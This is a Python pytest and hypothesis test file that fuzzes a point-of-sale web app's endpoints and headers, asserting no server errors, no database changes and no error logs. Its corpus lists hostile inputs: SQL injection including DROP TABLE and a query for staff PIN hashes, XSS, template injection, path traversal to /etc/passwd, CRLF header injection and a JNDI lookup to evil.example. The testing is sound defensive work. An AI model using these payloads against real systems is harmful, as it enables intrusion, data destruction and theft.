"""Hostile texts through every input: refused or kept as plain text, never a failure of ours."""

from __future__ import annotations

import json
import logging
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from werkzeug.test import TestResponse

from services.store.db import LEDGER
from tests.web.conftest import Browser, new_key

CORPUS = [
    "' OR '1'='1",
    "'; DROP TABLE sale; --",
    '" OR ""="',
    "1; ATTACH DATABASE '/tmp/x' AS x",
    "' UNION SELECT pin_hash FROM staff --",
    "%' OR sku LIKE '%",
    "!%_!!",
    "x' || (SELECT hex(randomblob(100000000))) || '",
    "\x00",
    "a\x00b",
    "\r\nSet-Cookie: session=x",
    "\ud800",
    "\udfff\ud800",
    "\u202eevil\u2066",
    "\ufeff",
    "<script>alert(1)</script>",
    "</script><svg onload=alert(1)>",
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    "../../../../etc/passwd",
    "..%2f..%2fapp.py",
    "%c0%ae%c0%ae/",
    "\x1bp\x00\x19\xfa",
    "\x1d01069010280209471721\x1d",
    "01" * 64,
    "9" * 400,
    "1e999",
    "NaN",
    "-1",
    "𝟙𝟚𝟛",
    "١٢٣",
    "A" * 5_000,
    "女" * 3_000,
    "${jndi:ldap://evil.example/a}",
    "level=error msg=forged\nlevel=info",
]

Send = Callable[[Browser, str], TestResponse]


def _json(method: str, path: str, body: Callable[[str], object]) -> Send:
    def send(browser: Browser, text: str) -> TestResponse:
        data = json.dumps(body(text))
        kind = "application/json"
        return browser.send(method, path, key=new_key(), data=data, content_type=kind)

    return send


def _query(path: str, name: str) -> Send:
    return lambda browser, text: browser.get(f"{path}?{name}={_escaped(text)}")


def _path(method: str, before: str, after: str = "") -> Send:
    return lambda browser, text: browser.send(
        method, f"{before}{_escaped(text)}{after}", {} if method != "GET" else None, key=new_key()
    )


def _header(method: str, path: str, name: str) -> Send:
    def send(browser: Browser, text: str) -> TestResponse:
        value = text.encode("utf-8", "replace").decode("latin-1").replace("\r", " ").replace("\n", " ")
        return browser.send(method, path, {} if method != "GET" else None, headers={name: value})

    return send


def _escaped(text: str) -> str:
    return quote(text.encode("utf-8", "surrogatepass"), safe="")


def _pay(text: str) -> object:
    return {"basket_id": text, "version": 1, "tenders": [{"key": text, "amount_minor": 1}]}


INPUTS: dict[str, Send] = {
    "sign on: who": _json("POST", "/api/session", lambda t: {"staff_id": t, "pin": "123456", "till": "1"}),
    "sign on: pin": _json("POST", "/api/session", lambda t: {"staff_id": "he", "pin": t, "till": "2"}),
    "sign on: till": _json(
        "POST", "/api/session", lambda t: {"staff_id": "he", "pin": "123456", "till": t}
    ),
    "add: sku": _json("POST", "/api/till/lines", lambda t: {"sku": t}),
    "add: code": _json("POST", "/api/till/lines", lambda t: {"code": t}),
    "a field's name": _json("POST", "/api/till/lines", lambda t: {t: 1}),
    "the whole body": _json("POST", "/api/till/lines", lambda t: t),
    "pay": _json("POST", "/api/sales", _pay),
    "test": _json("POST", "/api/technician/tests", lambda t: {"till": t, "test": t}),
    "twin: code": _json("POST", "/api/counter/scan", lambda t: {"twin": "printer-1", "code": t}),
    "twin: name": _json("POST", "/api/counter/faults", lambda t: {"twin": t, "fault": t, "on": True}),
    "search": _query("/api/catalogue", "q"),
    "category": _query("/api/catalogue", "category"),
    "page": _query("/api/catalogue", "after"),
    "amount": _query("/api/till/quote", "tendered_minor"),
    "a query's name": lambda browser, text: browser.get(f"/api/catalogue?{_escaped(text)}=1"),
    "style": _path("GET", "/api/styles/"),
    "sale": _path("GET", "/api/sales/"),
    "sale by key": _path("GET", "/api/sales/by-key/"),
    "copy": _path("POST", "/api/sales/", "/copies"),
    "job": _path("POST", "/api/jobs/", "/answer"),
    "unlock": _path("POST", "/api/staff/", "/unlock"),
    "line": _path("PUT", "/api/till/lines/"),
    "page of a till": _path("GET", "/till/"),
    "static file": _path("GET", "/static/x/"),
    "paper": _path("GET", "/api/counter/paper/", ".svg"),
    "nowhere": _path("GET", "/"),
    "key": _header("POST", "/api/sales", "Idempotency-Key"),
    "csrf": _header("POST", "/api/sales", "X-CSRF-Token"),
    "origin": _header("POST", "/api/session", "Origin"),
    "cookie": _header("GET", "/api/session", "Cookie"),
    "host": _header("GET", "/api/ready", "Host"),
    "language": _header("GET", "/till/1", "Accept-Language"),
    "content type": _header("POST", "/api/sales", "Content-Type"),
}


def schema() -> list[Any]:
    return LEDGER.execute_sql("SELECT type, name, sql FROM sqlite_master ORDER BY name").fetchall()


def counts() -> list[int]:
    tables = ("sale", "article", "staff", "job", "posting")
    return [LEDGER.execute_sql(f"SELECT COUNT(*) FROM {table}").fetchone()[0] for table in tables]


@pytest.fixture
def manager(browser: Browser) -> Browser:
    browser.sign_on("he")
    return browser


@pytest.fixture(autouse=True)
def untouched(manager: Browser, caplog: pytest.LogCaptureFixture) -> Iterator[None]:
    """Whatever was sent: no failure in the log, and the database as it was."""
    before = schema(), counts()
    caplog.set_level(logging.ERROR)
    yield
    assert (schema(), counts()) == before
    assert not caplog.records


def calm(name: str, text: str, response: TestResponse) -> None:
    assert response.status_code < 500, (name, text, response.data)
    if response.status_code >= 400:
        assert set(response.json) == {"code", "message", "details"}, (name, text)
    assert "Set-Cookie" not in response.headers, (name, text)


@pytest.mark.parametrize("name", INPUTS)
def test_known_attacks_are_calmly_answered(manager: Browser, name: str) -> None:
    for text in CORPUS:
        calm(name, text, INPUTS[name](manager, text))


@given(
    name=st.sampled_from(sorted(INPUTS)),
    text=st.text(st.characters(codec=None), max_size=200) | st.text(st.characters(max_codepoint=127)),
)
@example(name="add: code", text="\ud800")
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_text_is_calmly_answered(manager: Browser, name: str, text: str) -> None:
    calm(name, text, INPUTS[name](manager, text))


VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12,
)


@given(
    path=st.sampled_from(["/api/session", "/api/till/lines", "/api/sales", "/api/technician/tests"]),
    body=VALUES | st.dictionaries(st.sampled_from(["sku", "quantity", "tenders", "version"]), VALUES),
)
@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_json_is_calmly_answered(manager: Browser, path: str, body: object) -> None:
    calm(
        path,
        repr(body),
        manager.send("POST", path, key=new_key(), data=json.dumps(body), content_type="application/json"),
    )


@pytest.mark.parametrize(
    "data",
    [b"", b"{", b"\xff\xfe", b"null", b"[" * 100_000, b'{"sku":' * 5_000, b'{"sku": 1e400}', b"{}{}"],
    ids=lambda data: repr(data[:12]),
)
def test_broken_json_is_refused(manager: Browser, data: bytes) -> None:
    sent = dict(data=data, content_type="application/json")
    response = manager.send("POST", "/api/till/lines", key=new_key(), **sent)
    assert (response.status_code, response.json["code"]) == (400, "bad_request")


def test_a_hostile_name_comes_back_as_data(manager: Browser) -> None:
    text = "<script>alert(1)</script>"
    response = manager.send("POST", "/api/till/lines", {"sku": "x", text: 1}, key=new_key())
    assert (
        response.mimetype == "application/json" and response.headers["X-Content-Type-Options"] == "nosniff"
    )
